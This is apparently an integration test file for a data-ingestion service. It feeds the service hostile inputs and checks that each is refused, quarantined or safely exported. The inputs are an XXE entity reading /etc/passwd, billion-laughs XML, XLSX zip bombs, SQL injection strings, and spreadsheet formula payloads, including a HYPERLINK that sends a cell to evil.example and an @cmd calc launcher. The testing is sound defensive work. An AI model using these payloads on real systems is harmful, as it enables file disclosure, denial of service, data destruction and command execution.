/**
 * The hostile-input corpus (issue #5) end to end: each bad file is generated here, submitted through the real stack
 * to a profile that reads its format, and must end within seconds in a clear, located error (the batch fails while
 * planning, naming the file and the place) or in quarantine with a located, field-level reason, with nothing
 * committed that should not be. Every file runs against one worker in its own process, which must still be alive
 * afterwards, with its peak memory bounded, and still process a clean batch. Strings that are SQL or spreadsheet
 * formulas are stored verbatim and exported safely.
 */
import type { ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { constants as zlibConstants, crc32, deflateRawSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ZipWriter } from '../../src/formats/xlsx-write.ts';
import { MAIN_NS, addWorkbookParts } from '../helpers/xlsx-fixtures.ts';
import { generateInventoryManifest } from '../../src/profiles/inventory/generator.ts';
import type { BatchReport } from '../../src/shared/contracts.ts';
import { checkInvariants, runCli, spawnWorkerProcess, testConfig, useSluiceTest } from '../helpers/sluice-env.ts';

const t = useSluiceTest('hostile-input', { worker: false });

/** Each hostile batch must settle (fail, complete or wait for review) within this. */
const SETTLE_MS = 20_000;
/** The worker's peak resident memory (VmHWM) after the whole corpus must stay under this. */
const MAX_WORKER_PEAK_MB = 600;
/** ... and grow by less than this over its peak once started (Temporal's runtime and the workflow bundle). */
const MAX_CORPUS_GROWTH_MB = 200;
const MiB = 1 << 20;
/** Batch ids of this run: unique, so that a rerun against the same stack starts fresh batches. */
const RUN = randomBytes(3).toString('hex');

let worker: ChildProcess;
let workerLog = '';
/** The worker's peak resident memory once started, before any hostile input: its baseline. */
let startupPeakMb = 0;

const timings: { name: string; ms: number; outcome: string }[] = [];

/** Peak resident set size (VmHWM) of a process, in MB. */
async function peakRssMb(pid: number): Promise<number> {
  const status = await readFile(`/proc/${pid}/status`, 'utf8');
  return Number(/^VmHWM:\s+(\d+) kB$/m.exec(status)![1]) / 1024;
}

beforeAll(async () => {
  worker = spawnWorkerProcess();
  worker.stderr!.on('data', (d) => (workerLog += String(d)));
  // Wait until it polls, so that the first case's time to settle is not the worker's start-up.
  await new Promise<void>((resolve, reject) => {
    const timer = setInterval(() => {
      if (workerLog.includes('worker listening')) {
        clearInterval(timer);
        resolve();
      } else if (worker.exitCode !== null) {
        clearInterval(timer);
        reject(new Error(`the worker exited with ${worker.exitCode}:\n${workerLog}`));
      }
    }, 50);
  });
  startupPeakMb = await peakRssMb(worker.pid!);
});

afterAll(async () => {
  console.log(
    `hostile corpus, time to settle:\n${timings.map((x) => `  ${x.name.padEnd(28)} ${String(x.ms).padStart(6)} ms  ${x.outcome}`).join('\n')}`,
  );
  if (worker.exitCode === null) {
    const exited = new Promise((resolve) => worker.once('exit', resolve));
    worker.kill('SIGTERM');
    await exited;
  }
});

interface Disposition {
  record_no: number;
  status: string;
  reason_code: string | null;
  issues: { path: string; code: string; message: string; value?: unknown }[] | null;
  location: { file: string; line?: number; byteOffset?: number; position?: string } | null;
  source: Record<string, unknown> | null;
}

/**
 * Submits `file` as batch `hostile-<name>-<run>` and waits until it settles, within SETTLE_MS; then the worker must
 * still be alive and, unless the batch failed, every record must have exactly one disposition.
 */
async function run(
  name: string,
  file: string,
  profile: string,
): Promise<{ report: BatchReport; dispositions: Disposition[]; ledger: number }> {
  const started = Date.now();
  const batch = await t.sluice.submitBatch({ file, profile, batchId: `hostile-${name}-${RUN}`, config: testConfig() });
  let timer: NodeJS.Timeout | undefined;
  const report = await Promise.race([
    batch.settled(),
    new Promise<never>((_, reject) => {
      timer = setTimeout(() => reject(new Error(`${name}: not settled within ${SETTLE_MS} ms`)), SETTLE_MS);
    }),
  ]).finally(() => clearTimeout(timer));
  const ms = Date.now() - started;
  const { rows: dispositions } = await t.db.query<Disposition>(
    `SELECT record_no::int, status, reason_code, issues, location, source FROM record_disposition
      WHERE batch_id = $1 ORDER BY record_no`,
    [batch.batchId],
  );
  const { rows } = await t.db.query<{ n: number }>('SELECT count(*)::int AS n FROM ledger WHERE batch_id = $1', [
    batch.batchId,
  ]);
  timings.push({
    name,
    ms,
    outcome:
      report.status === 'failed'
        ? `failed: ${report.error}`
        : `${report.status}: committed ${report.committed}, held ${dispositions
            .filter((d) => d.status === 'quarantined')
            .map((d) => `${d.record_no}=${d.reason_code}:${d.issues?.map((i) => `${i.path}:${i.code}`).join('+')}`)
            .join(' ')}`,
  });
  expect(worker.exitCode, `the worker died during ${name}:\n${workerLog.slice(-2000)}`).toBeNull();
  if (report.status !== 'failed') await checkInvariants(t.db, batch.batchId, report.records);
  return { report, dispositions, ledger: rows[0]!.n };
}

/** The batch failed while planning, with `message` in its error; nothing was committed or held. */
async function expectPlanFailure(name: string, file: string, profile: string, message: string | RegExp): Promise<void> {
  const { report, dispositions, ledger } = await run(name, file, profile);
  expect(report.status).toBe('failed');
  expect(report.error).toContain(`could not be planned: batch ${report.batchId}: planning ${path.basename(file)}: `);
  expect(report.error).toMatch(message);
  expect(dispositions).toEqual([]);
  expect(ledger).toBe(0);
}

const held = (dispositions: Disposition[]) =>
  dispositions
    .filter((d) => d.status === 'quarantined')
    .map((d) => ({
      record: d.record_no,
      reason: d.reason_code,
      issues: d.issues!.map((i) => `${i.path}:${i.code}`),
    }));

// ---------------------------------------------------------------------------------------------------------------
// XML

const UBL = 'urn:oasis:names:specification:ubl:schema:xsd:Invoice-2';

describe('XML', () => {
  it('a DOCTYPE with an internal DTD fails planning at the DOCTYPE', async () => {
    const file = path.join(t.dir, 'dtd.xml');
    await writeFile(
      file,
      `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Invoice [\n  <!ELEMENT Invoice ANY>\n]>\n<Invoice xmlns="${UBL}"/>\n`,
    );
    await expectPlanFailure(
      'xml-dtd',
      file,
      'customs',
      /dtd\.xml: line 2, column 1: DOCTYPE declarations are not allowed/,
    );
  });

  it('an external entity (XXE) fails planning without reading the file it names', async () => {
    const file = path.join(t.dir, 'xxe.xml');
    await writeFile(
      file,
      `<?xml version="1.0" encoding="UTF-8"?>\n<!-- XXE -->\n<!DOCTYPE Invoice [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n` +
        `<Invoice xmlns="${UBL}"><Note>&xxe;</Note></Invoice>\n`,
    );
    await expectPlanFailure(
      'xml-xxe',
      file,
      'customs',
      /xxe\.xml: line 3, column 1: DOCTYPE declarations are not allowed/,
    );
  });

  it('billion laughs fails planning before any entity is defined', async () => {
    const file = path.join(t.dir, 'laughs.xml');
    const entities = Array.from(
      { length: 9 },
      (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
    );
    await writeFile(
      file,
      `<?xml version="1.0"?>\n<!DOCTYPE Invoice [\n  <!ENTITY lol "lol">\n${entities.join('\n')}\n]>\n` +
        `<Invoice xmlns="${UBL}"><Note>&lol9;</Note></Invoice>\n`,
    );
    await expectPlanFailure(
      'xml-laughs',
      file,
      'customs',
      /laughs\.xml: line 2, column 1: DOCTYPE declarations are not allowed/,
    );
  });
});

// ---------------------------------------------------------------------------------------------------------------
// XLSX

const INVENTORY_HEADER = ['asset_id', 'grant_code', 'category', 'quantity', 'location', 'acquisition_date'];

/** A one-sheet workbook whose sheet entry is written by `sheet` (sizes declared as the caller says). */
async function workbook(file: string, sheet: (zip: ZipWriter) => Promise<void>): Promise<void> {
  const zip = await ZipWriter.create(file);
  await addWorkbookParts(zip, 'Manifest');
  await sheet(zip);
  await zip.close();
}

const inlineRow = (cells: string[]) =>
  `<row>${cells.map((c) => `<c t="inlineStr"><is><t>${c}</t></is></c>`).join('')}</row>`;

/**
 * Sheet XML of `size` bytes (header row, then the same data row over and over), deflated cheaply: one 16 MiB block of
 * rows deflated with a full flush and repeated, as a compressor would give for such a sheet.
 */
function repetitiveSheet(size: number): { data: Buffer[]; crc32: number; size: number } {
  const head = Buffer.from(`<worksheet xmlns="${MAIN_NS}"><sheetData>${inlineRow(INVENTORY_HEADER)}`);
  const tail = Buffer.from('</sheetData></worksheet>');
  const row = inlineRow(['BOMB-1', 'NIH-R01-GM1', 'Reagent', '1', 'CHEM-101', '2024-01-02']);
  const block = Buffer.from(row.repeat(Math.floor((16 * MiB) / row.length)));
  const flush = { flush: zlibConstants.Z_FULL_FLUSH, finishFlush: zlibConstants.Z_FULL_FLUSH };
  const deflatedBlock = deflateRawSync(block, flush);
  const data = [deflateRawSync(head, flush)];
  let crc = crc32(head);
  let total = head.length;
  while (total + block.length + tail.length <= size) {
    data.push(deflatedBlock);
    crc = crc32(block, crc);
    total += block.length;
  }
  data.push(deflateRawSync(tail));
  return { data, crc32: crc32(tail, crc), size: total + tail.length };
}

describe('XLSX', () => {
  it('a zip bomb whose sheet inflates to 3 GiB is refused from its declared size, before anything is inflated', async () => {
    const file = path.join(t.dir, 'bomb-declared.xlsx');
    const flush = { flush: zlibConstants.Z_FULL_FLUSH, finishFlush: zlibConstants.Z_FULL_FLUSH };
    const zeros = deflateRawSync(Buffer.alloc(16 * MiB), flush);
    await workbook(file, (zip) =>
      zip.addRaw('xl/worksheets/sheet1.xml', {
        method: 8,
        data: [...Array.from({ length: 192 }, () => zeros), deflateRawSync(Buffer.alloc(0))],
        crc32: 0, // never checked: nothing is inflated
        uncompressedSize: 3 * 1024 * MiB,
      }),
    );
    await expectPlanFailure(
      'xlsx-bomb-declared',
      file,
      'inventory',
      'bomb-declared.xlsx: refusing to read the workbook: zip entry "xl/worksheets/sheet1.xml" declares 3221225472 bytes inflated, over the cap of 1073741824 bytes (maxInflatedBytes); a zip bomb?',
    );
  });

  it('a highly compressible 512 MiB sheet is refused by its compression ratio', async () => {
    const file = path.join(t.dir, 'bomb-ratio.xlsx');
    const sheet = repetitiveSheet(512 * MiB);
    await workbook(file, (zip) =>
      zip.addRaw('xl/worksheets/sheet1.xml', {
        method: 8,
        data: sheet.data,
        crc32: sheet.crc32,
        uncompressedSize: sheet.size,
      }),
    );
    await expectPlanFailure(
      'xlsx-bomb-ratio',
      file,
      'inventory',
      /bomb-ratio\.xlsx: refusing to read the workbook: zip entry "xl\/worksheets\/sheet1\.xml" declares \d+ bytes inflated from \d+ \(ratio \d+:1\), over the cap of 200:1 \(maxRatio\); a zip bomb\?/,
    );
  });

  it('a sheet whose declared size lies is stopped once it inflates past it', async () => {
    const file = path.join(t.dir, 'lying-sizes.xlsx');
    const sheet = repetitiveSheet(64 * MiB);
    await workbook(file, (zip) =>
      zip.addRaw('xl/worksheets/sheet1.xml', {
        method: 8,
        data: sheet.data,
        crc32: sheet.crc32,
        uncompressedSize: 1000,
      }),
    );
    await expectPlanFailure(
      'xlsx-lying-sizes',
      file,
      'inventory',
      'lying-sizes.xlsx: zip entry "xl/worksheets/sheet1.xml" inflates to more than the 1000 bytes it declares; a zip bomb?',
    );
  });
});

// ---------------------------------------------------------------------------------------------------------------
// CSV

const CSV_HEADER = `${INVENTORY_HEADER.join(',')}\n`;
/** One inventory manifest row (all valid unless the arguments say otherwise). */
const csvRow = (asset: string, quantity = '1', category = 'Reagent', location = 'CHEM-101') =>
  `${asset},NIH-R01-GM1,${category},${quantity},${location},2024-01-02\n`;

describe('CSV', () => {
  it('one enormous line (a 64 MiB field) fails planning at its line, without reading it all', async () => {
    const file = path.join(t.dir, 'huge-line.csv');
    const big = Buffer.alloc(64 * MiB, 'x');
    await writeFile(
      file,
      Buffer.concat([Buffer.from(CSV_HEADER + 'H-1,NIH-R01-GM1,'), big, Buffer.from(',1,CHEM-101,2024-01-02\n')]),
    );
    await expectPlanFailure(
      'csv-huge-line',
      file,
      'inventory',
      `huge-line.csv: line 2 (byte ${CSV_HEADER.length}): record is longer than 1048576 bytes`,
    );
  });

  it('a file with no line break at all fails planning at line 1', async () => {
    const file = path.join(t.dir, 'no-newline.csv');
    await writeFile(file, 'a,b,c,'.repeat((4 * MiB) / 6));
    await expectPlanFailure(
      'csv-no-newline',
      file,
      'inventory',
      'no-newline.csv: line 1 (byte 0): record is longer than 1048576 bytes',
    );
  });

  it('a file with carriage returns alone as line breaks fails planning at its header', async () => {
    const file = path.join(t.dir, 'cr-only.csv');
    await writeFile(file, (CSV_HEADER + csvRow('CR-1')).replaceAll('\n', '\r'));
    await expectPlanFailure(
      'csv-cr-only',
      file,
      'inventory',
      'cr-only.csv: line 1 (byte 0): header contains a carriage return that does not end a line',
    );
  });

  it('invalid UTF-8 in a field holds that record with a located, field-level issue', async () => {
    const file = path.join(t.dir, 'bad-utf8.csv');
    await writeFile(
      file,
      Buffer.concat([
        Buffer.from(CSV_HEADER + csvRow('U8-1') + 'U8-2,NIH-R01-GM4,Reag'),
        Buffer.from([0xff, 0xfe, 0xc3]), // never UTF-8, and a lead byte cut short
        Buffer.from('ent,2,CHEM-101,2024-01-02\n' + csvRow('U8-3', '3', 'Café')),
      ]),
    );
    const { report, dispositions, ledger } = await run('csv-bad-utf8', file, 'inventory');
    expect(report).toMatchObject({ status: 'awaiting_review', records: 3, committed: 2, quarantined: 1 });
    expect(held(dispositions)).toEqual([{ record: 2, reason: 'parse_error', issues: ['category:invalid_utf8'] }]);
    expect(dispositions[1]!.location).toEqual({
      file: 'bad-utf8.csv',
      line: 3,
      byteOffset: Buffer.byteLength(CSV_HEADER + csvRow('U8-1')),
    });
    expect(dispositions[1]!.issues![0]!.value).toBe('Reag\ufffd\ufffd\ufffdent');
    expect(ledger).toBe(2);
  });

  it('a UTF-8 file with windows-1252 lines holds those lines', async () => {
    const file = path.join(t.dir, 'mixed-encoding.csv');
    // "Café €5" in windows-1252: é is 0xE9 and € is 0x80, neither of them UTF-8.
    const cp1252 = Buffer.from([0x43, 0x61, 0x66, 0xe9, 0x20, 0x80, 0x35]);
    await writeFile(
      file,
      Buffer.concat([
        Buffer.from(CSV_HEADER + csvRow('MX-1', '1', 'Café crème €5') + 'MX-2,NIH-R01-GM4,'),
        cp1252,
        Buffer.from(',2,CHEM-101,2024-01-02\n' + csvRow('MX-3', '3', 'Naïve')),
      ]),
    );
    const { report, dispositions, ledger } = await run('csv-mixed-encoding', file, 'inventory');
    expect(report).toMatchObject({ status: 'awaiting_review', records: 3, committed: 2, quarantined: 1 });
    expect(held(dispositions)).toEqual([{ record: 2, reason: 'parse_error', issues: ['category:invalid_utf8'] }]);
    expect(dispositions[1]!.location).toEqual({
      file: 'mixed-encoding.csv',
      line: 3,
      byteOffset: Buffer.byteLength(CSV_HEADER + csvRow('MX-1', '1', 'Café crème €5')),
    });
    expect(dispositions[1]!.issues![0]).toEqual({
      path: 'category',
      code: 'invalid_utf8',
      message:
        'category holds U+FFFD in place of bytes that are not valid UTF-8 (is the file in another encoding, such as windows-1252?)',
      value: 'Caf\ufffd \ufffd5',
    });
    expect(ledger).toBe(2);
  });

  it('a NUL byte in a field holds that record instead of failing its chunk', async () => {
    const file = path.join(t.dir, 'nul.csv');
    await writeFile(file, CSV_HEADER + csvRow('NUL-1') + csvRow('NUL-2', '2', 'Reag\u0000ent') + csvRow('NUL-3', '3'));
    const { report, dispositions, ledger } = await run('csv-nul', file, 'inventory');
    expect(report).toMatchObject({ status: 'awaiting_review', records: 3, committed: 2, quarantined: 1 });
    expect(held(dispositions)).toEqual([{ record: 2, reason: 'parse_error', issues: ['category:nul_character'] }]);
    expect(dispositions[1]!.location).toMatchObject({ file: 'nul.csv', line: 3 });
    expect(dispositions[1]!.source).toMatchObject({ category: 'Reag\ufffdent' });
    expect(ledger).toBe(2);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// X12

/** A 106-character ISA with the delimiters * > ~ (cases below break them with `replace`). */
const isa = (control: string): string =>
  ['ISA', '00', ' '.repeat(10), '00', ' '.repeat(10), 'ZZ', 'BUYER'.padEnd(15), 'ZZ', 'SELLER'.padEnd(15)]
    .concat(['240320', '1200', 'U', '00401', control, '0', 'P', '>'])
    .join('*') + '~';
/** A purchase order (850) as one transaction set; `se01` defaults to the right count, 5. */
const po = (control: string, po: string, se01 = 5) =>
  `ST*850*${control}~BEG*00*SA*${po}**20240320~PO1*1*2*EA*2.00**VP*SKU-1~CTT*1~SE*${se01}*${control}~`;
const interchange = (control: string, sets: string[], counts: { ge01?: number; iea01?: number } = {}) =>
  `${isa(control)}GS*PO*BUYER*SELLER*20240320*1200*7*X*004010~${sets.join('')}` +
  `GE*${counts.ge01 ?? sets.length}*7~IEA*${counts.iea01 ?? 1}*${control}~`;

describe('X12', () => {
  it('a component separator that clashes with the element separator fails planning at the ISA', async () => {
    const file = path.join(t.dir, 'clash.edi');
    await writeFile(file, interchange('000000101', [po('0001', `PO-CLASH-${RUN}`)]).replace('*P*>~', '*P**~'));
    await expectPlanFailure(
      'x12-clashing-delimiters',
      file,
      'supply-feed',
      'clash.edi: start of file: ISA component separator "*" is the same as the element separator (segment 1, byte 0)',
    );
  });

  it('a segment terminator equal to the element separator fails planning at the ISA', async () => {
    const file = path.join(t.dir, 'same-terminator.edi');
    await writeFile(file, interchange('000000102', [po('0001', `PO-TERM-${RUN}`)]).replace('*P*>~', '*P*>*'));
    await expectPlanFailure(
      'x12-terminator-clash',
      file,
      'supply-feed',
      'same-terminator.edi: start of file: ISA segment terminator "*" is the same as the element separator (segment 1, byte 0)',
    );
  });

  it('segments ended by line breaks where the ISA says ~ fail planning, naming the terminator', async () => {
    const file = path.join(t.dir, 'wrong-terminator.edi');
    const body = interchange('000000103', [po('0001', `PO-WRONG-${RUN}`)]);
    const [first, ...rest] = body.split('~');
    await writeFile(file, `${first}~${rest.join('\n')}`);
    await expectPlanFailure(
      'x12-wrong-terminator',
      file,
      'supply-feed',
      /wrong-terminator\.edi: interchange 000000103: file ends inside a segment with no terminator "~": "GS\*PO\*BUYER/,
    );
  });

  it('a wrong SE01 count holds that transaction set; the others commit', async () => {
    const file = path.join(t.dir, 'se01.edi');
    const se = interchange('000000104', [
      po('0001', `PO-SE-1-${RUN}`),
      po('0002', `PO-SE-2-${RUN}`, 9),
      po('0003', `PO-SE-3-${RUN}`),
    ]);
    await writeFile(file, se);
    const { report, dispositions, ledger } = await run('x12-se01', file, 'supply-feed');
    expect(report).toMatchObject({ status: 'awaiting_review', records: 3, committed: 2, quarantined: 1 });
    expect(held(dispositions)).toEqual([{ record: 2, reason: 'parse_error', issues: [':invalid_transaction_set'] }]);
    expect(dispositions[1]!.issues![0]!.message).toBe(
      `se01.edi: interchange 000000104 / group 7 / set 0002: SE01 says 9 segments, counted 5 (segment 12, byte ${se.indexOf('SE*9*0002')})`,
    );
    expect(dispositions[1]!.location).toEqual({
      file: 'se01.edi',
      line: 1,
      byteOffset: se.indexOf('ST*850*0002'),
      position: 'interchange 000000104 / group 7 / set 0002',
    });
    expect(ledger).toBe(2);
  });

  it('a windows-1252 byte in a UTF-8 interchange holds that transaction set, naming the element', async () => {
    const file = path.join(t.dir, 'x12-latin1.edi');
    const sets = [po('0001', `PO-L1-1-${RUN}`), po('0002', `PO-L1-2-${RUN}`).replace('SKU-1', 'SKU-\u00e9')];
    await writeFile(file, Buffer.from(interchange('000000107', sets), 'latin1'));
    const { report, dispositions, ledger } = await run('x12-invalid-utf8', file, 'supply-feed');
    expect(report).toMatchObject({ status: 'awaiting_review', records: 2, committed: 1, quarantined: 1 });
    expect(held(dispositions)).toEqual([{ record: 2, reason: 'parse_error', issues: ['lines[0].sku:invalid_utf8'] }]);
    expect(dispositions[1]!.location).toMatchObject({ position: 'interchange 000000107 / group 7 / set 0002' });
    expect(ledger).toBe(1);
  });

  it('a wrong GE01 count fails planning at the GE', async () => {
    const file = path.join(t.dir, 'ge01.edi');
    const text = interchange('000000105', [po('0001', `PO-GE-${RUN}`)], { ge01: 2 });
    await writeFile(file, text);
    await expectPlanFailure(
      'x12-ge01',
      file,
      'supply-feed',
      `ge01.edi: interchange 000000105 / group 7: GE01 says 2 transaction sets, counted 1 (segment 8, byte ${text.indexOf('GE*2*7')})`,
    );
  });

  it('a wrong IEA01 count fails planning at the IEA', async () => {
    const file = path.join(t.dir, 'iea01.edi');
    const text = interchange('000000106', [po('0001', `PO-IEA-${RUN}`)], { iea01: 3 });
    await writeFile(file, text);
    await expectPlanFailure(
      'x12-iea01',
      file,
      'supply-feed',
      `iea01.edi: interchange 000000106: IEA01 says 3 functional groups, counted 1 (segment 9, byte ${text.indexOf('IEA*3')})`,
    );
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Numbers

/** One customs invoice as an NDJSON line; numbers are written into the JSON as given (bare, unless quoted). */
const invoice = (no: string, quantity: string, total: string, description = 'Oak dining table') =>
  `{"invoice_number":"${no}","invoice_date":"2024-03-01",` +
  `"exporter":{"id":"GB123456789000","name":"Thames Textiles Ltd","country":"GB"},` +
  `"importer":{"id":"US987654321000","name":"Great Lakes","country":"US"},"incoterm":"FOB","currency":"USD",` +
  `"invoice_total":${total},"lines":[{"line_no":1,"description":"${description}","quantity":${quantity},"unit":"PR",` +
  `"unit_price":1,"line_total":${total},"hs_code":"9403609000","origin_country":"GB"}]}\n`;

describe('numbers', () => {
  it('NaN, Infinity, a negative quantity and one beyond 2^53 are held with field-level issues', async () => {
    const file = path.join(t.dir, 'numbers.csv');
    await writeFile(
      file,
      CSV_HEADER +
        csvRow('N-1', 'NaN') +
        csvRow('N-2', 'Infinity') +
        csvRow('N-3', '-5') +
        csvRow('N-4', '9007199254740993') +
        csvRow('N-5', '7'),
    );
    const { report, dispositions, ledger } = await run('numbers-csv', file, 'inventory');
    expect(report).toMatchObject({ status: 'awaiting_review', records: 5, committed: 1, quarantined: 4 });
    expect(held(dispositions)).toEqual([
      { record: 1, reason: 'invalid_quantity', issues: ['quantity:not_integer'] },
      { record: 2, reason: 'invalid_quantity', issues: ['quantity:not_integer'] },
      { record: 3, reason: 'invalid_quantity', issues: ['quantity:negative'] },
      { record: 4, reason: 'invalid_quantity', issues: ['quantity:too_large'] },
    ]);
    expect(ledger).toBe(1);
  });

  it('JSON numbers a double cannot hold (beyond 2^53, 1e400) are held as written, never rounded', async () => {
    const file = path.join(t.dir, 'numbers.ndjson');
    await writeFile(
      file,
      invoice(`BIG-${RUN}`, '9007199254740993', '9007199254740993') +
        invoice(`INF-${RUN}`, '1e400', '1e400') +
        invoice(`NEG-${RUN}`, '-5', '-5'),
    );
    const { report, dispositions, ledger } = await run('numbers-json', file, 'customs');
    expect(report).toMatchObject({ status: 'awaiting_review', records: 3, committed: 0, quarantined: 3 });
    const inexact = [
      'invoice_total:inexact_number',
      'lines[0].quantity:inexact_number',
      'lines[0].line_total:inexact_number',
    ];
    expect(held(dispositions)).toEqual([
      { record: 1, reason: 'parse_error', issues: inexact },
      { record: 2, reason: 'parse_error', issues: inexact },
      {
        record: 3,
        reason: 'invalid_amount',
        issues: ['invoice_total:negative', 'lines[0].quantity:not_positive', 'lines[0].line_total:negative'],
      },
    ]);
    expect(dispositions[0]!.issues![1]!.message).toBe(
      'lines[0].quantity: the number 9007199254740993 cannot be held exactly (it would read as 9007199254740992); ' +
        'write it as a string, "9007199254740993"',
    );
    expect(dispositions[1]!.issues![1]!.message).toContain(
      'the number 1e400 cannot be held exactly (it would read as Infinity)',
    );
    expect(dispositions[0]!.location).toEqual({ file: 'numbers.ndjson', line: 1, byteOffset: 0, position: 'line 1' });
    // Held as written, for a person to see: never the rounded 9007199254740992.
    expect(dispositions[0]!.source).toMatchObject({
      invoice_total: '9007199254740993',
      lines: [{ quantity: '9007199254740993', line_total: '9007199254740993' }],
    });
    expect(ledger).toBe(0);
  });
});

describe('JSON text that is not text', () => {
  it('a NUL or a lone surrogate in an escape holds that invoice instead of failing its chunk', async () => {
    const file = path.join(t.dir, 'escapes.ndjson');
    const first = invoice(`SUR-${RUN}`, '1', '1', 'oak \\ud800 table');
    await writeFile(file, first + invoice(`NUL-${RUN}`, '1', '1', 'oak \\u0000 table'));
    const { report, dispositions, ledger } = await run('json-escapes', file, 'customs');
    expect(report).toMatchObject({ status: 'awaiting_review', records: 2, committed: 0, quarantined: 2 });
    expect(held(dispositions)).toEqual([
      { record: 1, reason: 'parse_error', issues: ['lines[0].description:lone_surrogate'] },
      { record: 2, reason: 'parse_error', issues: ['lines[0].description:nul_character'] },
    ]);
    expect(dispositions.map((d) => d.issues![0]!.value)).toEqual(['oak \ufffd table', 'oak \ufffd table']);
    expect(dispositions[1]!.location).toEqual({
      file: 'escapes.ndjson',
      line: 2,
      byteOffset: first.length,
      position: 'line 2',
    });
    expect(ledger).toBe(0);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Injection strings

describe('SQL and spreadsheet formulas in fields', () => {
  it('are stored verbatim, exported to CSV with formulas neutralised, and to JSON verbatim', async () => {
    const file = path.join(t.dir, 'injection.csv');
    // asset_id (half the business key, which the audit exports) and category (free text), as a user typed them.
    const rows: { asset: string; category: string; location?: string }[] = [
      { asset: '=HYPERLINK("http://evil.example/?d="&A1,"click")', category: "'); DROP TABLE ledger;--" },
      { asset: '+SUM(A1)', category: "Robert'); DELETE FROM record_disposition;--" },
      { asset: '-2+3', category: '=1+1' },
      { asset: "@cmd|' /C calc'!A0", category: "x' OR '1'='1" },
      { asset: "Robert'); DELETE FROM ledger;--", category: '+1', location: 'Room 101' },
      { asset: "1'; SELECT pg_sleep(30);--", category: '@SUM(A1)', location: 'chem-101' },
    ];
    const cell = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s);
    await writeFile(
      file,
      CSV_HEADER + rows.map((r) => csvRow(cell(r.asset), '1', cell(r.category), r.location)).join(''),
    );
    const { report, dispositions } = await run('injection', file, 'inventory');
    expect(report).toMatchObject({ status: 'awaiting_review', records: 6, committed: 4, quarantined: 2 });
    expect(held(dispositions)).toEqual([
      { record: 5, reason: 'nonstandard_location', issues: ['location:nonstandard_location'] },
      { record: 6, reason: 'nonstandard_location', issues: ['location:nonstandard_location'] },
    ]);
    // Reviewers' names and notes reach the export too: one starts with a tab, one with a carriage return.
    const decisions = [
      {
        decisionId: 'inj-approve',
        records: [5],
        action: 'approve',
        reviewer: '+ann',
        note: '\t=HYPERLINK("http://evil.example")',
      },
      { decisionId: 'inj-reject', records: [6], action: 'reject', reviewer: '@bob', note: '\r-2+3' },
    ] as const;
    for (const d of decisions) await t.sluice.decide(report.batchId, { ...d, records: [...d.records] });
    await t.sluice.temporal.workflow.getHandle(report.workflowId).result();

    // Stored verbatim: the ledger's payloads and the dispositions' business keys are the strings as typed.
    const ledger = await t.db.query<{ record_no: number; asset_id: string; category: string; business_key: string }>(
      `SELECT record_no::int, payload->>'asset_id' AS asset_id, payload->>'category' AS category, business_key
         FROM ledger WHERE batch_id = $1 ORDER BY record_no`,
      [report.batchId],
    );
    expect(ledger.rows).toEqual(
      [1, 2, 3, 4, 5].map((n) => ({
        record_no: n,
        asset_id: rows[n - 1]!.asset,
        category: rows[n - 1]!.category,
        business_key: `${rows[n - 1]!.asset}/NIH-R01-GM1`,
      })),
    );
    // Nothing was executed: the tables the strings name are all there, and hold this batch's rows.
    const counts = await t.db.query<{ dispositions: number; decisions: number }>(
      `SELECT (SELECT count(*)::int FROM record_disposition WHERE batch_id = $1) AS dispositions,
              (SELECT count(*)::int FROM review_decision WHERE batch_id = $1) AS decisions`,
      [report.batchId],
    );
    expect(counts.rows[0]).toEqual({ dispositions: 6, decisions: 2 });

    // Exported safely: in the audit CSV, every cell a spreadsheet would run as a formula starts with an apostrophe.
    const csv = await runCli(['audit', report.batchId, '--csv']);
    expect(csv.code, csv.stderr).toBe(0);
    const [header, ...records] = parse(csv.stdout, { relax_column_count: false }) as string[][];
    const col = (name: string) => header!.indexOf(name);
    const keys = records.map((r) => r[col('business_key')]);
    expect(keys).toEqual(
      rows.map((r) => (/^[=+\-@]/.test(r.asset) ? `'${r.asset}/NIH-R01-GM1` : `${r.asset}/NIH-R01-GM1`)),
    );
    expect(records.slice(4).map((r) => [r[col('decision_id')], r[col('reviewer')], r[col('note')]])).toEqual([
      ['inj-approve', "'+ann", `'\t=HYPERLINK("http://evil.example")`],
      ['inj-reject', "'@bob", "'\r-2+3"],
    ]);
    // No cell of the export starts with a formula character.
    expect(records.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

    // The JSON export is data, not a spreadsheet: verbatim.
    const json = await runCli(['audit', report.batchId, '--json']);
    expect(json.code, json.stderr).toBe(0);
    const doc = JSON.parse(json.stdout) as {
      records: { businessKey: string | null; decision?: { reviewer: string; note: string } }[];
    };
    expect(doc.records.map((r) => r.businessKey)).toEqual(rows.map((r) => `${r.asset}/NIH-R01-GM1`));
    expect(doc.records.slice(4).map((r) => [r.decision?.reviewer, r.decision?.note])).toEqual(
      decisions.map((d) => [d.reviewer, d.note]),
    );
  });
});

describe('the worker after the corpus', () => {
  it('is the same process, alive, its peak memory bounded, and processes a clean batch', async () => {
    expect(worker.exitCode).toBeNull();
    const peakMb = await peakRssMb(worker.pid!);
    console.log(
      `worker pid ${worker.pid}: peak RSS (VmHWM) ${peakMb.toFixed(0)} MB after the corpus, ` +
        `${startupPeakMb.toFixed(0)} MB once started`,
    );
    expect(peakMb).toBeLessThan(MAX_WORKER_PEAK_MB);
    // The corpus holds files of 64 MiB and sheets that would inflate to GiBs: none of it may be held whole.
    expect(peakMb - startupPeakMb).toBeLessThan(MAX_CORPUS_GROWTH_MB);
    const file = path.join(t.dir, 'clean.csv');
    const expected = await generateInventoryManifest(file, { records: 500, seed: 5005 });
    const { report } = await run('clean', file, 'inventory');
    expect(report).toMatchObject({ status: 'completed', records: 500, committed: expected.committed });
    await checkInvariants(t.db, report.batchId, 500);
  });
});
